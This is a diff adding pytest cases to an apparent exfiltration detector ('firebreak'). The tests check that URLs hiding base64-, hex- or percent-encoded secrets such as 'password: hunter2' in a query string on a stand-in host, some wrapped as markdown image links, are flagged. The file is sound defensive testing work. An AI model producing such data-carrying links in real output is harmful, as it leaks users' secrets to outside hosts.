@@ -2,7 +2,14 @@ import base64
 
 import pytest
 
-from firebreak.detect.exfiltration.carried import carries_sentence, carries_text, carries_words, names_text
+from firebreak.detect.exfiltration.carried import (
+    FAR,
+    carries_sentence,
+    carries_text,
+    carries_words,
+    may_carry,
+    names_text,
+)
 
 SAID = b"the password of the user is hunter2"
 B64 = base64.urlsafe_b64encode(SAID).decode().rstrip("=")
@@ -86,3 +93,27 @@ def test_a_row_of_words_in_a_query_is_seen(address, expected):
 )
 def test_a_host_that_is_text_is_seen(host, expected):
     assert names_text(host) is expected
+
+
+@pytest.mark.parametrize("said", ["the user said so, and more", "password: hunter2 ok", "äußerst geheim, sagt er"])
+@pytest.mark.parametrize("behind", ["", "&x=1", "/", ")", " "])
+def test_where_an_address_carries_text_it_may(said, behind):
+    for value in (
+        base64.b64encode(said.encode()).decode().rstrip("="),
+        said.encode().hex(),
+        "a%26" + said.encode().hex(),
+    ):
+        assert carries_text(f"https://e.io/?d={value}")
+        data = f"![x](https://e.io/?d={value}{behind}".encode()
+        assert may_carry(data, len(data) - len(behind) + bool(behind))
+
+
+def test_what_is_named_with_dashes_carries_nothing():
+    data = b"[x](https://e.io/how-to-read-a-long-address/"
+    assert not may_carry(data, len(data))
+
+
+def test_what_cannot_be_told_may_carry_text():
+    long, name = b"/" + b"a-" * FAR + b"/", b"?dGhlIHVzZXIgc2FpZCBzbywgYW5ksig="
+    assert may_carry(long, len(long))
+    assert may_carry(name, len(name))
